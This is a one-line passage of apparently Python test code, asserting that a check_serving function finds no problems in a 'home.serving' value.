    assert check_serving(home.serving) == []
